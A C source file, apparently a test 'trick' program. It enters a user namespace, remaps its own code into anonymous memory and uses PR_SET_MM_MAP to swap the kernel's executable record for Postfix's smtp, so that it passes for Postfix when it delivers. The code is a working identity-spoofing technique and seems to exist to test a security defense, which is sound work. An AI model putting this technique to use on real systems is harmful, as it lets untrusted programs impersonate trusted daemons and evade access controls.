// SPDX-License-Identifier: GPL-2.0-only
/*
 * In a user namespace of its own, where it may do so, replaces what the kernel has as its executable by Postfix's
 * smtp: it moves its own code to memory without a file and then calls PR_SET_MM_MAP. Hopes to be taken for Postfix.
 */
#include "trick.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

#define MAPPINGS_MAX 16

struct mapping {
	char *start;
	size_t size;
	int protection;
};

static int parse_mapping(const char *line, const char *executable, struct mapping *ret_mapping)
{
	unsigned long start, end;
	char rights[5];
	if (!strstr(line, executable) || sscanf(line, "%lx-%lx %4s", &start, &end, rights) != 3)
		return 0;
	ret_mapping->start = (char *)start; /* NOLINT: an address from /proc */
	ret_mapping->size = end - start;
	ret_mapping->protection = (rights[0] == 'r' ? PROT_READ : 0) | (rights[1] == 'w' ? PROT_WRITE : 0) |
				  (rights[2] == 'x' ? PROT_EXEC : 0);
	return 1;
}

static int list_mappings(struct mapping mappings[MAPPINGS_MAX])
{
	char executable[4096] = "", line[4608];
	int count = 0;
	FILE *maps = fopen("/proc/self/maps", "re");
	if (!maps || readlink("/proc/self/exe", executable, sizeof(executable) - 1) < 0)
		fail("/proc/self");
	while (count < MAPPINGS_MAX && fgets(line, sizeof(line), maps))
		count += parse_mapping(line, executable, &mappings[count]);
	fclose(maps);
	return count;
}

/* Puts an equal copy without a file in the mapping's place, even where it is the code that does so. */
static void take_off_file(const struct mapping *mapping)
{
	void *copy = mmap(NULL, mapping->size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (copy == MAP_FAILED)
		fail("mmap");
	memcpy(copy, mapping->start, mapping->size);
	if (mprotect(copy, mapping->size, mapping->protection) != 0)
		fail("mprotect");
	if (mremap(copy, mapping->size, mapping->size, MREMAP_MAYMOVE | MREMAP_FIXED, mapping->start) == MAP_FAILED)
		fail("mremap");
}

static void swap_executable(const char *path)
{
	struct prctl_mm_map map = memory_map();
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		fail(path);
	map.exe_fd = (__u32)fd;
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0) != 0) {
		if (errno == EINVAL || errno == EPERM)
			cannot("PR_SET_MM_MAP with an executable");
		fail("PR_SET_MM_MAP");
	}
}

int main(int argc, char *argv[])
{
	struct mapping mappings[MAPPINGS_MAX];
	int count = list_mappings(mappings);

	if (unshare(CLONE_NEWUSER) != 0)
		cannot("unshare(CLONE_NEWUSER)");
	for (int i = 0; i < count; i++)
		take_off_file(&mappings[i]);
	swap_executable(setting("POSTFIX_SMTP"));
	deliver(argv[argc - 1]);
	return 0;
}
